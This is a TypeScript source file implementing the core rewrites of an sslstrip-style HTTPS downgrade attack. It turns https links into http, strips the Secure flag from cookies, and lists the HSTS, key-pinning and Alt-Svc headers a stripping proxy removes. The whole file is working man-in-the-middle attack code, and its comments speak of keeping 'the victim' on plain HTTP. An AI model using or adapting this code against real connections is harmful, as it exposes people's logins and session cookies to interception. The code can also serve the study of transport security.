/**
 * The rewrites sslstrip applies to what the server says (Marlinspike, Black
 * Hat DC 2009), so the victim never leaves plain HTTP.
 */

/** https://host → http://host in any text; returns the rewritten text and the stripped URLs. */
export function stripHttpsLinks(text: string): { text: string; stripped: string[] } {
  const stripped: string[] = []
  const rewritten = text.replace(/https:\/\/([A-Za-z0-9.-]+(?::\d+)?)([^\s"'<>]*)/g, (_match, host: string, rest: string) => {
    stripped.push(`${host}${rest.split(/[?#]/)[0] ?? ''}`)
    return `http://${host}${rest}`
  })
  return { text: rewritten, stripped }
}

/** Set-Cookie without `Secure`, or the victim's browser would never send the cookie back over HTTP. */
export function stripSecureFlag(setCookie: string): string {
  return setCookie.replace(/;\s*Secure(?=;|$)/gi, '')
}

/** Response headers a stripping proxy removes: HSTS (RFC 6797), HPKP (RFC 7469), Alt-Svc (SSLsplit's list). */
export const UPGRADE_HEADERS = ['strict-transport-security', 'public-key-pins', 'public-key-pins-report-only', 'alt-svc'] as const

/** Hop-by-hop headers (RFC 9110 §7.6.1) and those a rewriting proxy must not forward. */
export const HOP_BY_HOP = new Set(['connection', 'keep-alive', 'proxy-connection', 'transfer-encoding', 'upgrade', 'te', 'trailer', 'content-length', 'accept-encoding'])
